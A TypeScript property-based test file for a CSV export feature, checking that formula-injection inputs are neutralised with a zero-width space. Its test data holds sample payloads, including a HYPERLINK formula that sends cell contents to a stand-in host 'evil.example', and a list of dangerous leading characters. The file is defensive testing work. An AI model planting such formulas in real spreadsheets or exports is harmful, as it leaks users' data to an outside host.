import fc from 'fast-check'
import { beforeAll, expect, it } from 'vitest'
import { csvCell } from '../../../contract/csv-cells.ts'
import { readCsv, requestShareLink } from '../../support/csv-export.ts'
import { insertAgencies, insertRows } from '../../support/insert-rows.ts'
import { startBeforeAll, startSignedInApi } from '../../support/test-api.ts'

const test = startBeforeAll(() =>
  startSignedInApi({ environment: { RATE_LIMITS: 'export-address=100000/1m' } }),
)
let path: string
let agencyId: number

beforeAll(async () => {
  ;[agencyId = 0] = await insertAgencies(test.database.pool, [{ city: 'Knoxville', state: 'TN' }])
  path = await requestShareLink(test, { agency_id: String(agencyId) })
})

interface Cells {
  account_name: string | null
  dealer_name: string | null
  status: string | null
}

/** The CSV of an agency that has these sales reports and no others. */
async function downloadCsv(reports: Cells[]): Promise<Buffer> {
  await test.database.pool.query('delete from sales_reports')
  await insertRows(
    test.database.pool,
    'sales_reports',
    reports.map((report) => ({ agency_id: agencyId, ...report })),
  )
  const response = await test.api.inject(path)
  expect(response.statusCode).toBe(200)
  return response.rawPayload
}

const headings = ['Agency', 'City', 'State', 'Vendor', 'First purchase', 'Last purchase', 'Status']

const dangerous = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']
const specialTexts = [
  ...dangerous,
  '"',
  '""',
  ',',
  ';',
  "'",
  '\r\n',
  '\\',
  '\\.',
  ' ',
  'é',
  '漢',
  '👩‍🚒',
  '\u2028',
  '\uFEFF',
]
// PostgreSQL stores every character except NUL.
const anyText = fc.string({ unit: 'binary' }).map((text) => text.replaceAll('\0', ''))
const text = fc.oneof(
  anyText,
  fc.string({ unit: fc.constantFrom(...specialTexts, 'a', '1') }),
  fc.tuple(fc.constantFrom(...dangerous), anyText).map((parts) => parts.join('')),
  fc.string({ unit: fc.constantFrom('+', '1', '0', ' ', '-', '(', ')') }),
)
const cell = fc.option(text, { freq: 10 })
const report = fc.record({ account_name: cell, dealer_name: cell, status: cell })

/** The visible part of a string, without zero-width spaces. */
const removeZeroWidthSpaces = (text: string | null) => (text ?? '').replaceAll('\u200B', '')

/** The parts that Excel treats as cells if its list separator is a semicolon and quotes are not at the start. */
const splitAtSemicolons = (csv: Buffer) =>
  csv
    .toString()
    .replace('\uFEFF', '')
    .split(/[;\t\r\n]/)

it('spreadsheets show cells as stored and run no formulas', {
  tags: ['REPORT-13', 'REPORT-14'],
}, async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(report, { maxLength: 20 }), async (reports) => {
      const csv = await downloadCsv(reports)
      const [first, ...rows] = readCsv(csv)
      expect(first).toEqual(headings)
      expect(rows.map((cells) => cells.map(removeZeroWidthSpaces))).toEqual(
        reports.map(({ account_name, dealer_name, status }) => [
          ...[
            removeZeroWidthSpaces(account_name),
            'Knoxville',
            'TN',
            removeZeroWidthSpaces(dealer_name),
            '',
            '',
            removeZeroWidthSpaces(status),
          ],
        ]),
      )
      for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[-=+@＝＋－＠]/)
      for (const part of splitAtSemicolons(csv)) expect(part).not.toMatch(/^[\s"']*[-=+@＝＋－＠]/)
    }),
    { numRuns: 150 },
  )
})

it.each([
  '=1+1',
  '=HYPERLINK("http://evil.example?"&A1,"Click")',
  '-2+3',
  '@SUM(A1:A9)',
  '＝1+1',
  '+',
  '+615-555-0100',
  '+1 615 555 0100',
  '0012',
  '1/2',
  '1E5',
  '12345678901234567890',
  '$1,000.50',
  'TRUE',
  'May 2020',
  '3-Mar',
  '10:30 PM',
])('a zero-width space keeps %j as text', { tags: ['REPORT-13', 'EXPORT-02'] }, async (value) => {
  expect(await readVendorCell(value)).toBe(`\u200B${value}`)
  expect(csvCell(value)).toBe(quote(`\u200B${value}`))
})

it.each([
  [';=1+1', ';\u200B=1+1'],
  ['\t=1+1', '\t\u200B=1+1'],
  ['x\n=1+1', 'x\n\u200B=1+1'],
  ['x; "-1', 'x;\u200B "-1'],
])(
  'with semicolons as separators, %j is not a formula',
  { tags: ['REPORT-13', 'EXPORT-02'] },
  async (value, cell) => {
    expect(await readVendorCell(value)).toBe(cell)
    expect(csvCell(value)).toBe(quote(cell))
  },
)

it.each(['3M Company', 'Maybe 3', 'Baker, Finch & Sons; Paper', "'quoted'", 'A=B', 'True North Supply'])(
  '%j is written unchanged',
  { tags: ['REPORT-13', 'EXPORT-02'] },
  async (value) => {
    expect(await readVendorCell(value)).toBe(value)
    expect(csvCell(value)).toBe(quote(value))
  },
)

/** A cell as the app writes it. */
const quote = (cell: string) => `"${cell.replaceAll('"', '""')}"`

async function readVendorCell(value: string): Promise<string> {
  const [, row] = readCsv(await downloadCsv([{ account_name: null, dealer_name: value, status: null }]))
  return row?.[3] ?? ''
}

it('is UTF-8 with a byte order mark and ISO dates', { tags: ['REPORT-14'] }, async () => {
  await test.database.pool.query('delete from sales_reports')
  await insertRows(test.database.pool, 'sales_reports', [
    {
      agency_id: agencyId,
      account_name: 'Cañon City',
      dealer_name: 'Baker, "Finch"',
      first_purchase_date: '2020-02-29',
      status: '',
    },
  ])
  const { rawPayload } = await test.api.inject(path)
  expect(rawPayload.toString()).toBe(
    '\uFEFFAgency,City,State,Vendor,First purchase,Last purchase,Status\n' +
      '"Cañon City","Knoxville","TN","Baker, ""Finch""",2020-02-29,,""\n',
  )
})
